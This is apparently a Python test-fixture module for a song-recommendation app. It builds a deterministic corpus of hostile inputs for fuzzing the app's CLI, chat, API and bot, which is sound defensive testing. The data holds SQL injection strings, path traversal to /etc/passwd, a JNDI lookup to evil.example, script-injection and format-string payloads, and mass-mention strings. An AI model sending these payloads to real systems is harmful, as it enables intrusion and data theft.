"""A corpus of hostile inputs for every front door: the CLI, `songrec chat`, the Service API and the bot.

Deterministic (no randomness), so a failure names the same input every run. `hostile_texts()` gives
well over 200 strings: unicode of many scripts, zero-width and right-to-left characters, emoji, 10,000
characters, SQL metacharacters, markdown and mention injection, malformed links, absurd counts, null
bytes, control characters, lone surrogates, very long numbers. `hostile_ids()` and `hostile_counts()`
give the values a caller might pass where an id or a count belongs.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

#: A real title of tests.service_env's catalogue: wrapped in noise, it may still resolve (that is fine).
KNOWN_TITLE = "Song 12"


@dataclass(frozen=True)
class Hostile:
    kind: str
    text: str

    @property
    def label(self) -> str:
        """Short, printable, for test ids."""
        shown = self.text[:24].encode("unicode_escape", "backslashreplace").decode("ascii")
        return f"{self.kind}:{shown}{'…' if len(self.text) > 24 else ''}"


UNICODE = [
    "Café del Mar",
    "Ünïcödé Sông",
    "東京の夜",
    "사랑해",
    "Москва",
    "Ελληνικά",
    "हिन्दी गाना",
    "ไทย",
    "Z̸̡̛a̶͓̿l̵̰͝g̶̯̈o̷̯͐ ̸̰̈́s̷̱̈ö̷̗́ṅ̸̰g̵̣̈́",
    "e\u0301\u0301\u0301\u0301",  # stacked combining accents
    "ﬁﬂ ligatures",
    "𝕱𝖗𝖆𝖐𝖙𝖚𝖗",
    "Ⓢⓞⓝⓖ ①②",
    "\u3000",  # ideographic space only
    "\u00a0\u00a0",
    "",
    " ",
    "\t\n",
]
ZERO_WIDTH = [
    "\u200b",
    "Song\u200b 12",
    "S\u200co\u200dn\u2060g 1\ufeff2",
    "\ufeffSong 12",
    "\u200b" * 200,
    "\u034f\u115f\u1160\u3164",  # invisible fillers
]
RIGHT_TO_LEFT = [
    "\u202eSong 12",
    "Song \u202e21 gnoS",
    "\u200fSong 12\u200e",
    "\u2067مرحبا\u2069 Song",
    "שיר \u202d12",
    "\u202a\u202b\u202c\u202d\u202e",
]
EMOJI = [
    "🎵",
    "🎵🎶🎸🥁",
    "👨‍👩‍👧‍👦 family",
    "🏳️‍🌈",
    "👍🏽",
    "🇺🇸🇯🇵",
    "Song 12 🔥🔥🔥",
    "🎵" * 300,
]
HUGE = [
    "a" * 10_000,
    "🎵" * 10_000,
    "Song 12 " * 1_250,
    "x" * 301,
    ("@everyone " * 1_000).strip(),
    "\u200b" * 10_000,
]
SQL = [
    "'; DROP TABLE feedback; --",
    '" OR 1=1 --',
    "1); DELETE FROM suggestions; --",
    "Robert'); DROP TABLE users;--",
    "%",
    "_",
    "%%%___",
    "\\",
    "' UNION SELECT * FROM sqlite_master --",
    "'; ATTACH DATABASE '/tmp/x' AS x; --",
    "`backticks`",
    "PRAGMA writable_schema=1;",
]
MARKDOWN_AND_MENTIONS = [
    "@everyone",
    "@here",
    "@everyone Song 12",
    "Song 12 @here",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "<:emoji:123456789012345678>",
    "**bold** __underline__ ~~strike~~",
    "`code` ```block```",
    "||spoiler||",
    "[click me](https://evil.example/steal)",
    "> quote\n# heading",
    "-# subtext",
    "@\u200beveryone",
    "＠everyone",
    "@everyone" + "\u0000",
    "*" * 500,
    "\\@everyone",
]
LINKS = [
    "https://open.spotify.com/track/",
    "https://open.spotify.com/track/123",
    "https://open.spotify.com/track/" + "A" * 22 + "?si=" + "x" * 400,
    "https://open.spotify.com/track/" + "!" * 22,
    "https://open.spotify.com/album/",
    "https://open.spotify.com/playlist/xyz",
    "https://open.spotify.com/artist/" + "B" * 22,
    "spotify:track:",
    "spotify:track:!!!",
    "spotify:track:" + "C" * 23,
    "spotify::::",
    "http://evil.example/track/" + "D" * 22,
    "javascript:alert(1)",
    "file:///etc/passwd",
    "https://open.spotify.com/track/%00%00",
    "https://user:pass@open.spotify.com/track/" + "E" * 22,
    "https://" + "a" * 250 + ".com",
    "open.spotify.com/track/",
    "https://spotify.link/",
    "<https://open.spotify.com/track/" + "F" * 22 + ">",
]
COUNTS_AS_TEXT = [
    "-1",
    "0",
    "999999999999",
    "1e309",
    "NaN",
    "inf",
    "-inf",
    "0x10",
    "1_000",
    "٣",  # Arabic-Indic three
]
NULLS_AND_CONTROLS = [
    "\x00",
    "\x00" * 50,
    "Song\x0012",
    "Song 12\x00",
    "\x07\x08\x1b[31mred\x1b[0m",
    "\r\nSong 12\r\n",
    "line1\nline2\nline3",
    "\x7f\x80\x81\x9f",
    "\x85\u2028\u2029",
    "\x1b]0;title\x07",
    "\x0c\x0b",
]
SURROGATES = [
    "\ud800",
    "Song \udfff 12",
    "\udcff\udcfe",
    "\\ud83d\\ude00",
    "&#55357;&#56832;",
    "%ED%A0%80",
    "\ud83d",  # half an emoji
]
NUMBERS = [
    "9" * 400,
    "-" + "9" * 50,
    "0x" + "f" * 100,
    "1" * 22,  # looks like a track id
    "0" * 22,
    "1.7976931348623157e+309",
    "-0",
    "00000000000000000000000000000000001",
]
ODD_TEXT = [
    "{0}{1}{2}",
    "%s%s%s%n",
    "{__class__.__init__.__globals__}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    '{"track_id": "x"}',
    "null",
    "None",
    "[]",
    "<script>alert(1)</script>",
    "Song 12 - ",
    " - ",
    "-",
    ",",
    "Song 12,",
    ",Song 12",
    "Song 12 - Artist 0 - extra - dashes",
    "/recommend",
    "/like /like",
    "/quit",
]


def _groups() -> dict[str, list[str]]:
    return {
        "unicode": UNICODE,
        "zero_width": ZERO_WIDTH,
        "rtl": RIGHT_TO_LEFT,
        "emoji": EMOJI,
        "huge": HUGE,
        "sql": SQL,
        "markdown": MARKDOWN_AND_MENTIONS,
        "link": LINKS,
        "count": COUNTS_AS_TEXT,
        "control": NULLS_AND_CONTROLS,
        "surrogate": SURROGATES,
        "number": NUMBERS,
        "odd": ODD_TEXT,
    }


def hostile_texts() -> list[Hostile]:
    """Every base string, plus each short one glued to a real title (so some resolve and get echoed)."""
    out: list[Hostile] = []
    seen: set[str] = set()

    def add(kind: str, text: str) -> None:
        if text not in seen:
            seen.add(text)
            out.append(Hostile(kind, text))

    groups = _groups()
    for kind, texts in groups.items():
        for text in texts:
            add(kind, text)
    for kind, texts in groups.items():
        for text in texts:
            if 0 < len(text) <= 60:
                add(f"{kind}+title", f"{KNOWN_TITLE} {text}")
    return out


def hostile_ids() -> list[Any]:
    """Values passed where a user, suggestion, guild or channel id belongs."""
    return [
        -1,
        0,
        -(2**63),
        2**63,
        2**64,
        10**100,
        True,
        False,
        1.5,
        float("nan"),
        float("inf"),
        "123",
        "",
        None,
        b"123",
        [1],
        {"id": 1},
    ]


def hostile_counts() -> list[Any]:
    """Values passed where a count (k, limit, length) belongs."""
    return [-1, 0, 10**9, 2**63, -(2**63), True, 1.5, float("nan"), "5", None]


def sample(items: list[Hostile], n: int) -> list[Hostile]:
    """An even spread of `n` items across the corpus (every kind represented, deterministic)."""
    if n >= len(items):
        return list(items)
    step = len(items) / n
    return [items[int(i * step)] for i in range(n)]
